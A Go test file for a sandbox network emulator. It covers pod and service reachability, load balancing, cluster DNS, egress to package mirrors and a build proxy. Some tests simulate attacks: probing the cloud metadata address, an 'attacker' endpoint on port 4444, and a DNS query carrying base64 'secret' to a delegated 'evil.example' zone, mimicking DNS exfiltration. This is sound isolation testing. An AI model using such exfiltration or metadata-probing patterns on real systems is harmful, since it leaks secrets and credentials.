package network

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"road/internal/sandbox/oci/world"
	"road/internal/sandbox/sandboxtest"

	"github.com/google/go-cmp/cmp"
	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
)

// TestMain runs the tests inside a world of their own, where this user can make
// one.
func TestMain(m *testing.M) {
	world.Main()
	if os.Geteuid() == 0 && world.Inside() == nil {
		os.Exit(inWorld())
	}
	if world.Inside() != nil { // for tests that make no network, whatever ran before them
		if lo, err := netlink.LinkByName("lo"); err != nil || netlink.LinkSetUp(lo) != nil {
			fmt.Fprintln(os.Stderr, "there is no loopback:", err)
			os.Exit(1)
		}
	}
	os.Exit(m.Run())
}

func inWorld() int {
	state, err := os.MkdirTemp("", "road-network")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer os.RemoveAll(state)
	status, err := world.Enter(world.Options{State: state})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return status
}

// newNetwork is a network for one test.
func newNetwork(t *testing.T) *Network {
	t.Helper()
	sandboxtest.Need(t)
	n, err := New(world.Inside(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := n.Close(); err != nil {
			t.Errorf("close: %v", err)
		}
	})
	return n
}

func attach(t *testing.T, n *Network, namespace, name string) *Endpoint {
	t.Helper()
	e, err := n.Attach(AttachOptions{Name: name, Namespace: namespace})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func soon(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// greet serves a line with its own name and the client's address, on TCP and UDP.
func greet(t *testing.T, e *Endpoint, port int) {
	t.Helper()
	addr := fmt.Sprint(":", port)
	l, err := e.Listen(soon(t), "tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			from := c.RemoteAddr().(*net.TCPAddr).IP
			fmt.Fprintf(c, "%s %s\n", e.Name, from)
			c.Close()
		}
	}()
	p, err := e.ListenPacket(soon(t), "udp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	go func() {
		b := make([]byte, 100)
		for {
			_, from, err := p.ReadFrom(b)
			if err != nil {
				return
			}
			fmt.Fprintf(&packet{p, from}, "%s %s\n", e.Name, from.(*net.UDPAddr).IP)
		}
	}()
}

type packet struct {
	net.PacketConn
	to net.Addr
}

func (p *packet) Write(b []byte) (int, error) { return p.WriteTo(b, p.to) }

// ask connects and gives the line that comes: who answered, and the address that
// it saw.
func ask(c net.Conn, err error) (who, saw string, _ error) {
	if err != nil {
		return "", "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	if c.LocalAddr().Network() == "udp" {
		c.Write([]byte("hello"))
	}
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return "", "", err
	}
	who, saw, _ = strings.Cut(strings.TrimSpace(line), " ")
	return who, saw, nil
}

func mustAsk(t *testing.T, c net.Conn, err error) (who, saw string) {
	t.Helper()
	who, saw, err = ask(c, err)
	if err != nil {
		t.Fatal(err)
	}
	return who, saw
}

func TestSandboxPodsReachEachOther(t *testing.T) {
	n := newNetwork(t)
	a, b := attach(t, n, "default", "a"), attach(t, n, "other", "b")
	greet(t, b, 80)
	for _, network := range []string{"tcp", "udp"} {
		c, err := a.DialContext(soon(t), network, b.Addr()+":80")
		if who, saw := mustAsk(t, c, err); who != "b" || saw != a.Addr() {
			t.Errorf("%s: %s answered, and saw %s, not %s", network, who, saw, a.Addr())
		}
	}
	c, err := net.Dial("tcp", b.Addr()+":80")
	if who, _ := mustAsk(t, c, err); who != "b" {
		t.Errorf("the node reached %s", who)
	}
	b.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if c, err := a.DialContext(ctx, "tcp", b.IP.String()+":80"); err == nil {
		c.Close()
		t.Error("a closed endpoint still answers")
	}
}

func TestSandboxServiceSpreads(t *testing.T) {
	n := newNetwork(t)
	client := attach(t, n, "default", "client")
	o := ServiceOptions{Ports: []ServicePort{{Name: "web", Port: 80, Target: 8080}, {Name: "dgram", Protocol: "UDP", Port: 80, Target: 8080}}}
	first, err := n.SetService("default", "web", o)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"a", "b", "c"} {
		e := attach(t, n, "default", name)
		greet(t, e, 8080)
		o.Backends = append(o.Backends, Backend{Addr: e.IP})
	}
	addr, err := n.SetService("default", "web", o)
	if err != nil || addr != first {
		t.Fatalf("address %s, then %s: %v", first, addr, err)
	}
	dial := map[string]func(network string) (net.Conn, error){
		"pod":  func(network string) (net.Conn, error) { return client.DialContext(soon(t), network, "web:80") },
		"node": func(network string) (net.Conn, error) { return net.Dial(network, addr.String()+":80") },
	}
	for from, dial := range dial {
		for _, network := range []string{"tcp", "udp"} {
			got := map[string]int{}
			for range 30 {
				c, err := dial(network)
				who, _ := mustAsk(t, c, err)
				got[who]++
			}
			if d := cmp.Diff(map[string]int{"a": 10, "b": 10, "c": 10}, got); d != "" {
				t.Errorf("%s by %s: %s", network, from, d)
			}
		}
	}
	o.Sticky = true
	if _, err := n.SetService("default", "web", o); err != nil {
		t.Fatal(err)
	}
	got := map[string]int{}
	for range 10 {
		c, err := dial["pod"]("tcp")
		who, _ := mustAsk(t, c, err)
		got[who]++
	}
	if len(got) != 1 {
		t.Errorf("a sticky service spreads: %v", got)
	}
}

func TestSandboxServiceFollowsItsBackends(t *testing.T) {
	n := newNetwork(t)
	client, a, b := attach(t, n, "default", "client"), attach(t, n, "default", "a"), attach(t, n, "default", "b")
	greet(t, a, 80)
	greet(t, b, 81)
	ports := []ServicePort{{Name: "tcp", Port: 80}, {Name: "udp", Protocol: "UDP", Port: 80}}
	set := func(bs ...Backend) {
		t.Helper()
		if _, err := n.SetService("default", "web", ServiceOptions{Ports: ports, Backends: bs}); err != nil {
			t.Fatal(err)
		}
	}
	set(Backend{Addr: a.IP})
	datagrams, err := client.DialContext(soon(t), "udp", "web:80")
	if err != nil {
		t.Fatal(err)
	}
	defer datagrams.Close()
	turn := func() string {
		datagrams.Write([]byte("hello"))
		datagrams.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 100)
		k, err := datagrams.Read(buf)
		if err != nil {
			return err.Error()
		}
		return string(buf[:1])[:min(1, k)]
	}
	if got := turn(); got != "a" {
		t.Errorf("asked %q", got)
	}
	set(Backend{Addr: b.IP, Targets: map[string]uint16{"tcp": 81, "udp": 81}})
	c, err := client.DialContext(soon(t), "tcp", "web:80")
	if who, _ := mustAsk(t, c, err); who != "b" {
		t.Errorf("the new backend is b, asked %s", who)
	}
	if got := turn(); got != "b" {
		t.Errorf("the same socket still asks %q", got)
	}
	set()
	for _, network := range []string{"tcp", "udp"} {
		start := time.Now()
		if who, _, err := ask(client.DialContext(soon(t), network, "web:80")); err == nil {
			t.Errorf("%s: %s answers for a service without backends", network, who)
		} else if !strings.Contains(err.Error(), "refused") || time.Since(start) > time.Second {
			t.Errorf("%s: not refused at once: %v after %v", network, err, time.Since(start))
		}
	}
	if err := n.RemoveService("default", "web"); err != nil {
		t.Fatal(err)
	}
	var unknown *net.DNSError
	if _, err := client.DialContext(soon(t), "tcp", "web:80"); !errors.As(err, &unknown) || !unknown.IsNotFound {
		t.Errorf("a removed service: %v", err)
	}
}

func TestSandboxPodReachesItselfThroughItsService(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	greet(t, a, 80)
	if _, err := n.SetService("default", "web", ServiceOptions{
		Ports:    []ServicePort{{Name: "t", Port: 80}, {Name: "u", Port: 80, Protocol: "UDP"}},
		Backends: []Backend{{Addr: a.IP}}}); err != nil {
		t.Fatal(err)
	}
	for _, network := range []string{"tcp", "udp"} {
		c, err := a.DialContext(soon(t), network, "web:80")
		if who, saw := mustAsk(t, c, err); who != "a" || saw == a.Addr() {
			t.Errorf("%s: %s answered, and saw %s", network, who, saw)
		}
	}
}

func TestSandboxUnknownAddressesDoNotLeave(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	for _, addr := range []string{"10.96.77.7:80", "10.244.77.7:80", "198.51.100.77:80", "10.244.77.8:80", "198.51.100.78:80"} {
		start := time.Now()
		c, err := a.DialContext(soon(t), "tcp", addr)
		if err == nil {
			c.Close()
			t.Errorf("%s: connected", addr)
		} else if time.Since(start) > 2*time.Second {
			t.Errorf("%s: %v after %v", addr, err, time.Since(start))
		}
	}
}

func TestSandboxClusterDNS(t *testing.T) {
	n := newNetwork(t)
	a, b, c := attach(t, n, "app", "a"), attach(t, n, "app", "b"), attach(t, n, "other", "c")
	web, err := n.SetService("app", "web", ServiceOptions{Ports: []ServicePort{{Name: "http", Port: 80}}, Backends: []Backend{{Addr: a.IP}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := n.SetService("app", "db", ServiceOptions{ClusterIP: "None", Ports: []ServicePort{{Name: "redis", Port: 6379}},
		Backends: []Backend{{Addr: a.IP, Hostname: "db-0"}, {Addr: b.IP, Hostname: "db-1"}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := n.SetService("app", "alias", ServiceOptions{ExternalName: "web.app.svc.cluster.local"}); err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct {
		name, kind, want string
	}{
		{"web.app.svc.cluster.local.", "A", "NOERROR " + web.String()},
		{"WEB.app.svc.cluster.local.", "A", "NOERROR " + web.String()},
		{"web.app.svc.cluster.local.", "AAAA", "NOERROR"},
		{"db.app.svc.cluster.local.", "A", "NOERROR " + a.Addr() + " " + b.Addr()},
		{"db-1.db.app.svc.cluster.local.", "A", "NOERROR " + b.Addr()},
		{"db-2.db.app.svc.cluster.local.", "A", "NXDOMAIN"},
		{"db-0.web.app.svc.cluster.local.", "A", "NXDOMAIN"},
		{"_redis._tcp.db.app.svc.cluster.local.", "SRV", "NOERROR db-0.db.app.svc.cluster.local.:6379 db-1.db.app.svc.cluster.local.:6379"},
		{"_http._tcp.web.app.svc.cluster.local.", "SRV", "NOERROR web.app.svc.cluster.local.:80"},
		{"alias.app.svc.cluster.local.", "A", "NOERROR web.app.svc.cluster.local."},
		{"kubernetes.default.svc.cluster.local.", "A", "NOERROR 10.96.0.1"},
		{"10-244-0-9.app.pod.cluster.local.", "A", "NOERROR 10.244.0.9"},
		{"app.svc.cluster.local.", "A", "NOERROR"},
		{"nobody.svc.cluster.local.", "A", "NXDOMAIN"},
		{"web.other.svc.cluster.local.", "A", "NXDOMAIN"},
		{"svc.cluster.local.", "A", "NOERROR"},
		{"cluster.local.", "A", "NOERROR"},
		{"x.y.z.w.v.svc.cluster.local.", "A", "NXDOMAIN"},
		{"9.0.244.10.in-addr.arpa.", "PTR", "NXDOMAIN"},
	} {
		for _, network := range []string{"udp", "tcp"} {
			if got := query(t, a, network, test.name, test.kind); got != test.want {
				t.Errorf("%s %s by %s: %s, want %s", test.name, test.kind, network, got, test.want)
			}
		}
	}
	// Along the search list, and only along one's own.
	greet(t, a, 80)
	for _, name := range []string{"web", "web.app", "web.app.svc", "web.app.svc.cluster.local", "db-0.db"} {
		conn, err := b.DialContext(soon(t), "tcp", name+":80")
		if who, _ := mustAsk(t, conn, err); who != "a" {
			t.Errorf("%s: %s answered", name, who)
		}
	}
	if _, err := c.DialContext(soon(t), "tcp", "web:80"); err == nil {
		t.Error("a pod of another namespace finds web")
	}
	qs := n.Queries()
	if len(qs) < 10 {
		t.Fatalf("only %d questions remembered", len(qs))
	}
	if q := qs[0]; q.From != a.IP || q.Name != "web.app.svc.cluster.local." || q.Type != "A" || q.Rcode != "NOERROR" {
		t.Errorf("the first question is %+v", q)
	}
}

// query asks cluster DNS from an endpoint: "NOERROR 10.96.0.1".
func query(t *testing.T, e *Endpoint, network, name, kind string) string {
	t.Helper()
	c, err := world.DialNS(soon(t), e.FD, network, dnsServer.String()+":53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	q := new(dns.Msg).SetQuestion(name, dns.StringToType[kind])
	m, _, err := new(dns.Client).ExchangeWithConn(q, &dns.Conn{Conn: c})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	s := []string{dns.RcodeToString[m.Rcode]}
	for _, rr := range m.Answer {
		if rr.Header().Name != name {
			t.Errorf("asked for %s, answered for %s", name, rr.Header().Name)
		}
		switch rr := rr.(type) {
		case *dns.A:
			s = append(s, rr.A.String())
		case *dns.SRV:
			s = append(s, fmt.Sprintf("%s:%d", rr.Target, rr.Port))
		case *dns.CNAME:
			s = append(s, rr.Target)
		}
	}
	return strings.Join(s, " ")
}

// The way out: a real name, real bytes from a real mirror.
func TestSandboxWayOut(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	get := func(c net.Conn, err error) (string, error) {
		if err != nil {
			return "", err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(20 * time.Second))
		fmt.Fprint(c, "GET /debian/dists/trixie/InRelease HTTP/1.1\r\nHost: deb.debian.org\r\nConnection: close\r\n\r\n")
		b, err := io.ReadAll(io.LimitReader(c, 4096))
		return string(b), err
	}
	body, err := get(a.DialContext(soon(t), "tcp", "deb.debian.org:80"))
	if err != nil || !strings.Contains(body, "BEGIN PGP SIGNED MESSAGE") {
		t.Errorf("a pod got %.200q, %v", body, err)
	}
	// A build step has the router's network and the world's resolv.conf.
	body, err = get(net.Dial("tcp", "deb.debian.org:80"))
	if err != nil || !strings.Contains(body, "BEGIN PGP SIGNED MESSAGE") {
		t.Errorf("the node got %.200q, %v", body, err)
	}
	// A question to any name server is answered by ours.
	c, err := world.DialNS(soon(t), a.FD, "udp", "192.0.2.53:53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	m, _, err := new(dns.Client).ExchangeWithConn(new(dns.Msg).SetQuestion("deb.debian.org.", dns.TypeA), &dns.Conn{Conn: c})
	if err != nil || len(addresses(m)) == 0 {
		t.Errorf("asked another name server: %v, %v", m, err)
	}
}

// What only the host may reach stays out of reach: its own ports, on loopback
// and on its own address, and its neighbours.
func TestSandboxHostIsOutOfReach(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	l, err := n.world.ListenHost(soon(t), "tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	accepted := make(chan string, 10)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted <- c.LocalAddr().String()
			io.WriteString(c, "the host\n")
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	if c, err := n.world.DialHost(soon(t), "tcp", fmt.Sprintf("127.0.0.1:%d", port)); err != nil {
		t.Fatalf("the host's port does not answer: %v", err)
	} else {
		c.Close()
		<-accepted
	}
	addrs := append([]netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("127.0.0.2"), routerUp, proxyUp}, n.egress.self...)
	if len(addrs) < 6 {
		t.Error("the host's own addresses are not known")
	}
	for _, ip := range addrs {
		to := netip.AddrPortFrom(ip, uint16(port)).String()
		if who, _, err := ask(a.DialContext(soon(t), "tcp", to)); err == nil {
			t.Errorf("a pod reached %s at %s", who, to)
		}
	}
	for _, to := range []string{"169.254.169.254:80", "10.255.255.53:53"} {
		c, err := a.DialContext(soon(t), "tcp", to)
		if err == nil {
			c.SetDeadline(time.Now().Add(2 * time.Second))
			_, werr := fmt.Fprint(c, "GET / HTTP/1.0\r\n\r\n")
			b, rerr := io.ReadAll(c)
			if len(b) > 0 || werr == nil && rerr == nil {
				t.Errorf("%s said %q and did not hang up", to, b)
			}
			c.Close()
		}
	}
	select {
	case at := <-accepted:
		t.Errorf("the host was reached at %s", at)
	default:
	}
}

// What the host reaches only for builds, such as its proxy, no pod reaches, but for
// the package mirrors behind it. The host plays it, as if it were a neighbour.
func TestSandboxProxyIsForBuilds(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	l, err := n.world.ListenHost(soon(t), "tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var asked []string
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, r.Method+" "+r.URL.String()+r.Header.Get("Proxy-Authorization"))
		io.WriteString(w, "from the proxy")
	})}
	go server.Serve(l)
	defer server.Close()
	i := slices.IndexFunc(n.egress.self, func(a netip.Addr) bool { return !a.IsLoopback() && !a.IsLinkLocalUnicast() })
	if i < 0 {
		t.Fatal("the host has no address")
	}
	proxy := netip.AddrPortFrom(n.egress.self[i], uint16(l.Addr().(*net.TCPAddr).Port))
	n.egress.mu.Lock()
	n.egress.self, n.egress.onLink = nil, []netip.Prefix{netip.PrefixFrom(proxy.Addr(), 32)}
	n.egress.forBuilds.add(proxy.String())
	n.egress.mirrors.add("http://mirror.example:8080/debian")
	n.egress.mu.Unlock()
	get := func(dial func(context.Context, string, string) (net.Conn, error), method, target string) string {
		c, err := dial(soon(t), "tcp", proxy.String())
		if err != nil {
			return err.Error()
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: x\r\nProxy-Authorization: secret\r\nConnection: close\r\n\r\n", method, target)
		b, _ := io.ReadAll(c)
		return string(b)
	}
	build := new(net.Dialer).DialContext
	for _, c := range []struct {
		dial           func(context.Context, string, string) (net.Conn, error)
		method, target string
		reached        bool
	}{
		{build, "GET", "http://intranet.example/", true},
		{a.DialContext, "GET", "http://mirror.example:8080/debian/x", true},
		{a.DialContext, "GET", "http://mirror.example/debian/x", true},
		{a.DialContext, "GET", "http://mirror.example:22/", false},
		{a.DialContext, "POST", "http://mirror.example/", false},
		{a.DialContext, "GET", "http://intranet.example/", false},
		{a.DialContext, "GET", "https://mirror.example/", false},
		{a.DialContext, "GET", "/", false},
		{a.DialContext, "CONNECT", "mirror.example:80", false},
		{a.DialContext, "CONNECT", "intranet.example:80", false},
	} {
		mu.Lock()
		asked = nil
		mu.Unlock()
		got := get(c.dial, c.method, c.target)
		mu.Lock()
		reached := len(asked) == 1 && asked[0] == c.method+" "+c.target+"secret"
		if reached != c.reached || len(asked) > 0 != c.reached || strings.Contains(got, "from the proxy") != c.reached {
			t.Errorf("%s %s: the proxy was asked %q and %.200q came back, want that it is reached: %t", c.method, c.target, asked, got, c.reached)
		}
		mu.Unlock()
	}
}

func TestSandboxOutsideReachesNothingInside(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	out, err := n.AttachOutside("attacker")
	if err != nil {
		t.Fatal(err)
	}
	greet(t, a, 80)
	greet(t, out, 4444)
	svc, err := n.SetService("default", "web", ServiceOptions{Ports: []ServicePort{{Port: 80}}, Backends: []Backend{{Addr: a.IP}}})
	if err != nil {
		t.Fatal(err)
	}
	c, err := a.DialContext(soon(t), "tcp", out.Addr()+":4444")
	if who, saw := mustAsk(t, c, err); who != "attacker" || saw != a.Addr() {
		t.Errorf("%s answered and saw %s", who, saw)
	}
	for _, to := range []string{a.Addr() + ":80", svc.String() + ":80"} {
		ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
		if who, _, err := ask(out.DialContext(ctx, "tcp", to)); err == nil {
			t.Errorf("the outside reached %s at %s", who, to)
		}
		cancel()
	}
}

func TestSandboxDelegatedZone(t *testing.T) {
	n := newNetwork(t)
	a := attach(t, n, "default", "a")
	out, err := n.AttachOutside("attacker")
	if err != nil {
		t.Fatal(err)
	}
	pc, err := out.ListenPacket(soon(t), "udp4", ":53")
	if err != nil {
		t.Fatal(err)
	}
	asked := make(chan string, 4)
	s := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, r *dns.Msg) {
		asked <- r.Question[0].Name
		m := new(dns.Msg).SetReply(r)
		rr, _ := dns.NewRR(r.Question[0].Name + " 5 IN A 192.0.2.99")
		m.Answer = append(m.Answer, rr)
		w.WriteMsg(m)
	})}
	go s.ActivateAndServe()
	defer s.Shutdown()
	n.DelegateZone("evil.example", netip.AddrPortFrom(out.IP, 53))
	if got := query(t, a, "udp", "c2VjcmV0.evil.example.", "A"); got != "NOERROR 192.0.2.99" {
		t.Errorf("got %s", got)
	}
	if got := <-asked; got != "c2VjcmV0.evil.example." {
		t.Errorf("the attacker was asked %s", got)
	}
}
